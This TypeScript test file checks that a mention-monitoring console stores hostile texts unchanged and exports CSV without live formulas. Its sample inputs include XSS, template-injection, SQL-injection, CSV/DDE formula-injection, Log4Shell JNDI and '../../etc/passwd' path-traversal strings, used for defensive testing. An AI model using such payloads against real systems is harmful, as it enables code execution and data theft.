import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { openConsole, type Client, type OpenConsole } from '../contract/open-console.ts'
import { outcomeOf, storedTexts } from './import-outcome.ts'
import { call } from './signed-call.ts'
import { webhookAddress } from './webhook-address.ts'

/** Texts that break what handles them carelessly. They are stored as they are. */
const hostile = [
  '<script>alert(1)</script><img src=x onerror=alert(1)> kettle',
  '<b>not bold</b> &amp; &lt;not an entity&gt; ]]> --> {{constructor.constructor("x")()}}',
  '\u202Egnp.exe kettle \u2066right to left\u2069 \u200Fשלום עולם\u200E',
  'مرحبا بالعالم — السعر ٢٠ €',
  'zero\u200Bwidth\u200Djoiner \uFEFF mark and \u00ADsoft hyphen',
  'Z\u0351\u036B\u0343\u036A\u0302\u0365a\u0315\u0358lgo kettle',
  '👩‍👩‍👧‍👦🏳️‍🌈 𝕂𝕖𝕥𝕥𝕝𝕖 𠜎',
  "Robert'); DROP TABLE mention;-- kettle",
  'line one\nline two\r\n\tline three "quoted", and ‘typeset’',
  '=HYPERLINK("http://example.invalid","kettle")',
  '+41 22 kettle',
  '-1+1 kettle',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '%00 %n %s ${jndi:ldap://example.invalid} ../../etc/passwd kettle',
  '" OR "NEAR(kettle) AND * ^ : NOT (',
] as const

/** What is cleaned away, and only that: NUL characters, halves of characters, white space at the ends. */
const cleaned: readonly (readonly [string, string])[] = [
  ['nul\u0000in the kettle\u0000', 'nulin the kettle'],
  ['half \uD83D of a character', 'half \uFFFD of a character'],
  ['  \t kettle with room \n', 'kettle with room'],
]

const dated = (text: string, index: number) => ({ publishedAt: Date.UTC(2026, 2, 2, 6, index), nativeId: `n${index}`, author: { name: `<i>${index}</i>`, handle: `@h${index}` }, text })
const all = [...hostile, ...cleaned.map(([given]) => given)]
const expected = [...hostile, ...cleaned.map(([, kept]) => kept)]

let opened: OpenConsole
beforeEach(async () => {
  opened = await openConsole('web socket')
})
afterEach(() => opened.close())

const arrivals: readonly (readonly [string, (client: Client) => Promise<void>])[] = [
  [
    'a CSV file',
    async (client) => {
      const lines = all.map((text, index) => `n${index},${new Date(dated(text, index).publishedAt).toISOString()},"${text.replaceAll('"', '""')}"`)
      // Half a character can't be written in UTF-8, but it can in UTF-16.
      const bytes = Buffer.from(`\uFEFFid,date,text\r\n${lines.join('\r\n')}`, 'utf16le')
      expect((await outcomeOf(client, 'hostile.csv', bytes)).job).toMatchObject({ state: 'done', stored: all.length, rejected: 0 })
    },
  ],
  [
    'a JSON Lines file',
    async (client) => {
      const lines = all.map((text, index) => JSON.stringify(dated(text, index)))
      expect((await outcomeOf(client, 'hostile.jsonl', lines.join('\n'))).job).toMatchObject({ state: 'done', stored: all.length, rejected: 0 })
    },
  ],
  [
    'a webhook',
    async (client) => {
      const { id } = await client.sources.save({ definition: { kind: 'webhook', name: 'Hook' } })
      const { secret } = await client.sources.renewWebhookSecret({ id })
      const answer = await call(await webhookAddress(client, id), secret, all.map(dated))
      expect(answer).toEqual({ status: 200, body: { stored: all.length, duplicates: 0, rejected: [] } })
    },
  ],
]

describe.each(arrivals)('Hostile texts that come by %s', (_, arrive) => {
  beforeEach(() => arrive(opened.client))

  test('are stored as they are and listed so', async () => {
    expect(await storedTexts(opened.client)).toEqual(expected)
  })

  test('are found, grouped and detailed without a failure', async () => {
    const { client } = opened
    const found = await client.monitor.list({ filter: { search: 'kettle' }, limit: 200 })
    expect(found.mentions.length).toBeGreaterThanOrEqual(9)
    for (const text of expected) await client.monitor.list({ filter: { search: text.slice(0, 500) } })
    for (const { id } of found.mentions) expect((await client.monitor.mention({ id })).mention.id).toBe(id)
    await client.monitor.volume({ filter: {}, split: 'theme' })
    await client.monitor.themes({ filter: {} })
    await client.monitor.authors({ filter: {} })
    await client.monitor.situation({})
    expect(opened.logged).toEqual([])
  })

  test('leave as JSON Lines and come back the same', async () => {
    const file = await exported(opened.client, 'jsonl')
    const other = await openConsole('message port')
    expect((await outcomeOf(other.client, 'back.jsonl', file)).job).toMatchObject({ state: 'done', stored: all.length, rejected: 0 })
    expect(await storedTexts(other.client)).toEqual(expected)
    await other.close()
  })

  test('leave as CSV in which no cell is a formula, and come back the same', async () => {
    const file = await exported(opened.client, 'csv')
    for (const cell of cellsOf(file)) expect(cell).not.toMatch(/^[=+\-@\t\r](?!\d*\.?\d*$)/)
    const other = await openConsole('message port')
    expect((await outcomeOf(other.client, 'back.csv', file)).job).toMatchObject({ state: 'done', stored: all.length, rejected: 0 })
    expect((await storedTexts(other.client)).map((text) => text.replace(/^'(?=[=+\-@])/, ''))).toEqual(expected)
    await other.close()
  })
})

async function exported(client: Client, format: 'csv' | 'jsonl'): Promise<string> {
  let text = ''
  for await (const piece of await client.monitor.exportMentions({ filter: {}, format })) text += piece.text
  return text
}

/** Every cell of a well-formed CSV text, as a spreadsheet would show it. */
function cellsOf(text: string): string[] {
  return [...text.slice(1).matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(([, quoted, plain]) => (quoted ?? plain ?? '').replaceAll('""', '"'))
}
